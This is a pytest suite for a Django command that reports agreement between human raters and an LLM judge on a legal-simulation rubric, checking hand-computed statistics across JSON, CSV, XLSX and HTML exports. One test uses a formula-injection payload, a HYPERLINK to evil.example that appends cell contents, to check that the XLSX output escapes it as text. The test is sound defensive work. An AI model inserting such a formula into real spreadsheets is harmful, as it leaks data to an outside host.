"""The agreement report against a study small enough to compute by hand."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

HEADER = "trajectory_id,rubric,item,rater,source,score,reason\n"
STUDY = [
    # LC.procedural_compliance: t1 humans 8, 9 vs judge 7; t2 humans 6, 7 vs judge 7
    ("t1", "LC.procedural_compliance", "ann", "human", 8),
    ("t1", "LC.procedural_compliance", "bo", "human", 9),
    ("t1", "LC.procedural_compliance", "judge-x", "llm", 7),
    ("t2", "LC.procedural_compliance", "ann", "human", 6),
    ("t2", "LC.procedural_compliance", "cy", "human", 7),
    ("t2", "LC.procedural_compliance", "judge-x", "llm", 7),
    # LC.process_coherence: t1 human 9 vs 9; t2 human 10 vs 8
    ("t1", "LC.process_coherence", "ann", "human", 9),
    ("t1", "LC.process_coherence", "judge-x", "llm", 9),
    ("t2", "LC.process_coherence", "bo", "human", 10),
    ("t2", "LC.process_coherence", "judge-x", "llm", 8),
    # lawyer.stance_authenticity: one pair (7 vs a judge mean of 7.5); t2 has no judge score
    ("t1", "lawyer.stance_authenticity", "ann", "human", 7),
    ("t1", "lawyer.stance_authenticity", "judge-x", "llm", 7.5),
    ("t2", "lawyer.stance_authenticity", "bo", "human", 9),
]


@pytest.fixture
def study(tmp_path):
    path = tmp_path / "study.csv"
    path.write_text(HEADER + "".join(f"{t},legalworld16,{i},{r},{s},{v},because\n" for t, i, r, s, v in STUDY))
    call_command("import_ratings", str(path))
    return tmp_path


def report(tmp_path, fmt: str, *args: str):
    out = tmp_path / f"report.{fmt}"
    call_command("agreement_report", "--format", fmt, "--out", str(out), *args)
    return out


def row(data: dict, group: str, row_id: str) -> dict:
    return next(item for item in next(g for g in data["groups"] if g["id"] == group)["rows"] if item["id"] == row_id)


def test_rows_match_a_hand_computation(study):
    data = json.loads(report(study, "json").read_text())
    assert data["rubric"] == "legalworld16" and data["judge"] == "judge-x"
    lc = row(data, "stage_authenticity", "LC")
    # pairs (human, llm): (8,7) (9,7) (6,7) (7,7) (9,9) (10,8); differences 1, 2, -1, 0, 0, 2
    assert lc["n_pairs"] == 6
    assert lc["human_avg"] == pytest.approx(49 / 6)
    assert lc["llm_avg"] == pytest.approx(45 / 6)
    assert lc["mean_diff"] == pytest.approx(4 / 6)
    assert lc["sd_diff"] == pytest.approx((7.3333333333 / 5) ** 0.5)
    assert lc["mae"] == pytest.approx(1.0)
    assert lc["within1_pct"] == pytest.approx(400 / 6)
    assert lc["subdims"] == {"LC.procedural_compliance": 7.5, "LC.process_coherence": 9.5}

    lawyer = row(data, "role_consistency", "lawyer")
    assert lawyer["n_pairs"] == 1 and lawyer["mean_diff"] == pytest.approx(-0.5) and lawyer["sd_diff"] is None
    assert any(note.startswith("lawyer: sd_diff") for note in data["notes"])
    assert row(data, "stage_authenticity", "FIT")["n_pairs"] == 0

    overall = data["overall"]
    assert overall["n_pairs"] == 7, "a human score without a judge score of the same item and trajectory is no pair"
    assert overall["human_avg"] == pytest.approx(56 / 7) and overall["llm_avg"] == pytest.approx(52.5 / 7)


def test_item_figures_match_a_hand_computation(study):
    data = json.loads(report(study, "json").read_text())
    item = next(entry for entry in data["items"] if entry["id"] == "LC.procedural_compliance")
    # units t1 [8, 9] and t2 [6, 7]: D_o = 1, D_e = 10/3 -> alpha 0.7; MSB 4, MSW 0.5 -> ICC 3.5/4.5, 3.5/4
    assert item["krippendorff_alpha_interval"] == pytest.approx(0.7)
    assert item["icc_1_1"] == pytest.approx(3.5 / 4.5)
    assert item["icc_1_k"] == pytest.approx(3.5 / 4)
    assert item["pearson"] is None and item["qwk"] is not None
    assert item["n_trajectories"] == 2 and item["n_raters"] == 3
    assert any("LC.procedural_compliance: pearson undefined" in note for note in data["notes"])


def test_all_four_exports_show_the_same_numbers(study):
    data = json.loads(report(study, "json").read_text())
    lc = row(data, "stage_authenticity", "LC")
    table = list(csv.DictReader(io.StringIO(report(study, "csv").read_text())))
    csv_lc = next(line for line in table if line["id"] == "LC")
    assert float(csv_lc["mean_diff"]) == lc["mean_diff"] and float(csv_lc["within1_pct"]) == lc["within1_pct"]
    sheet = load_workbook(report(study, "xlsx")).active
    header = [cell.value for cell in sheet[1]]
    xlsx_lc = next(
        dict(zip(header, [cell.value for cell in line], strict=True))
        for line in sheet.iter_rows(min_row=2)
        if line[2].value == "LC"
    )
    assert xlsx_lc["mae"] == lc["mae"] and xlsx_lc["n_pairs"] == 6
    html = report(study, "html").read_text()
    assert "<svg" in html and "judge-x" in html and "0.67" in html and "66.67" in html


def test_the_judge_must_be_named_when_several_scored(study, tmp_path):
    second = tmp_path / "second.csv"
    second.write_text(HEADER + "t1,legalworld16,LC.procedural_compliance,judge-y,llm,6,\n")
    call_command("import_ratings", str(second))
    with pytest.raises(
        CommandError, match="several judges scored this rubric; pick one with --judge: judge-x, judge-y"
    ):
        report(tmp_path, "json")
    data = json.loads(report(tmp_path, "json", "--judge", "judge-y").read_text())
    assert data["overall"]["n_pairs"] == 2


def test_bootstrap_intervals_match_a_hand_computation_in_every_export(study):
    """Two trajectories resample to {t1,t1}, {t1,t2} or {t2,t2}: LC's mean difference is then
    1, 2/3 or 1/3, so the 95 % interval is [1/3, 1]."""
    data = json.loads(report(study, "json").read_text())
    lc = row(data, "stage_authenticity", "LC")
    assert lc["ci95"]["mean_diff"] == pytest.approx([1 / 3, 1])
    assert data["bootstrap"]["replicates"] == 1000 and data["bootstrap"]["unit"] == "trajectory"
    table = list(csv.DictReader(io.StringIO(report(study, "csv").read_text())))
    csv_lc = next(line for line in table if line["id"] == "LC")
    assert float(csv_lc["mean_diff_ci_low"]) == lc["ci95"]["mean_diff"][0]
    assert float(csv_lc["mean_diff_ci_high"]) == lc["ci95"]["mean_diff"][1]
    html = report(study, "html").read_text()
    assert "[0.33, 1.00]" in html
    assert "ci95" not in report(study, "json", "--bootstrap", "0").read_text()


def test_the_html_report_groups_reasons_by_score_band(study):
    """Human scores 8 9 6 7 9 10 7 9: four are >= 9, one is <= 6."""
    html = report(study, "html").read_text()
    assert "Scores ≥ 9: 4 ratings (50.0 %)" in html
    assert "Scores ≤ 6: 1 rating (12.5 %)" in html


NOT_APPLICABLE = [
    # t1 and t2 never reached the appeal: two people say so on SIT and AD/AR items, a judge too
    ("t1", "SIT.procedural_compliance", "ann", "human"),
    ("t1", "SIT.procedural_compliance", "bo", "human"),
    ("t2", "SIT.process_coherence", "bo", "human"),
    ("t2", "AD_AR.process_coherence", "cy", "human"),
    ("t1", "SIT.procedural_compliance", "judge-x", "llm"),
]


def test_the_report_leaves_na_out_of_every_figure_and_counts_it(study, tmp_path):
    before = json.loads(report(study, "json").read_text())
    path = tmp_path / "na.csv"
    path.write_text(HEADER + "".join(f"{t},legalworld16,{i},{r},{s},NA,\n" for t, i, r, s in NOT_APPLICABLE))
    call_command("import_ratings", str(path))
    data = json.loads(report(study, "json").read_text())

    def figures(entry: dict) -> dict:
        return {key: value for key, value in entry.items() if key != "n_na"}

    assert figures(data["overall"]) == figures(before["overall"])
    assert [figures(item) for item in data["items"]] == [figures(item) for item in before["items"]]
    assert data["notes"] == before["notes"]
    assert data["overall"]["n_na"] == 4, "people's N/A answers; the judge's is not counted"
    stages = next(group for group in data["groups"] if group["id"] == "stage_authenticity")
    roles = next(group for group in data["groups"] if group["id"] == "role_consistency")
    assert stages["n_na"] == stages["overall"]["n_na"] == 4 and roles["n_na"] == 0
    assert row(data, "stage_authenticity", "SIT")["n_na"] == 3 and row(data, "stage_authenticity", "LC")["n_na"] == 0
    n_na = {item["id"]: item["n_na"] for item in data["items"]}
    assert n_na["SIT.procedural_compliance"] == 2 and n_na["AD_AR.process_coherence"] == 1
    assert n_na["LC.procedural_compliance"] == 0

    table = list(csv.DictReader(io.StringIO(report(study, "csv").read_text())))
    assert next(line for line in table if line["id"] == "SIT")["n_na"] == "3"
    assert next(line for line in table if line["level"] == "overall")["n_pairs"] == str(before["overall"]["n_pairs"])
    html = report(study, "html").read_text()
    assert "Scores ≥ 9: 4 ratings (50.0 %)" in html, "N/A answers are no ratings of a score band"


JUDGE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize(
    ("rubric", "item", "scores"),
    [
        ("legalworld16", "LC.procedural_compliance", (8, 7)),
        ("simcourt30", "debate.attorney.clarity_of_defense_arguments", (-1, 1)),
    ],
)
def test_a_judge_named_like_a_formula_is_text_in_the_xlsx_report(tmp_path, rubric, item, scores):
    from annotation.models import Rating

    for trajectory in ("t1|t2", "t3|t4"):
        for rater, source, score in (("ann", "human", scores[0]), (JUDGE_FORMULA, "llm", scores[1])):
            Rating.objects.create(
                rubric_id=rubric, trajectory_id=trajectory, item=item, rater=rater, source=source, score=score
            )
    workbook = load_workbook(report(tmp_path, "xlsx", "--rubric", rubric))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
    assert ["judge", "'" + JUDGE_FORMULA] in [[cell.value for cell in row] for row in workbook["notes"].iter_rows()]
